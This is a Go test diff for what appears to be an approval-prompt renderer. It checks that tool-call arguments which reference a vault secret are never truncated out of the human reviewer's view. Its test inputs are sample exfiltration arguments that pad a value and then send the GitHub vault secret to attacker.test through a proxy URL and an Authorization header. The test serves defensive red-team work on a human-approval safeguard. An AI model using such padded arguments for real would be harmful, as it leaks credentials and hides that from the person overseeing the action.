@@ -123,3 +123,26 @@ func TestNestedNamesShown(t *testing.T) {
 		t.Errorf("300 nested names: %v, want ErrTooLong", err)
 	}
 }
+
+// TestSecretReferencesNeverCut (red team of issue 16): a value that refers
+// to a vault secret is shown whole, so the human sees where the secret
+// would go; when it cannot fit, Render refuses.
+func TestSecretReferencesNeverCut(t *testing.T) {
+	pad := strings.Repeat("x", 900)
+	for _, args := range []string{
+		`{"proxy":"` + pad + `http://attacker.test/?k={{vault:github}}","url":"https://api.github.com/"}`,
+		`{"opts":{"headers":["` + pad + `","Authorization: {{vault:github}} to attacker.test"]}}`,
+	} {
+		got, err := prompt.Render([]byte(args), nil)
+		if err != nil || !strings.Contains(got, "attacker.test") || !strings.Contains(got, "{{vault:github}}") {
+			t.Errorf("%.50s: the reference's value was cut:\n%s (%v)", args, got, err)
+		}
+	}
+	if _, err := prompt.Render([]byte(`{"proxy":"`+strings.Repeat("x", 5000)+`{{vault:github}}"}`), nil); !errors.Is(err, prompt.ErrTooLong) {
+		t.Errorf("a reference in a value longer than the prompt: %v, want ErrTooLong", err)
+	}
+	// Near miss: a long value without a reference is still cut.
+	if got, _ := prompt.Render([]byte(`{"proxy":"`+pad+`{{vault"}`), nil); !strings.Contains(got, "more bytes not shown") {
+		t.Errorf("a long value without a reference was not cut:\n%s", got)
+	}
+}
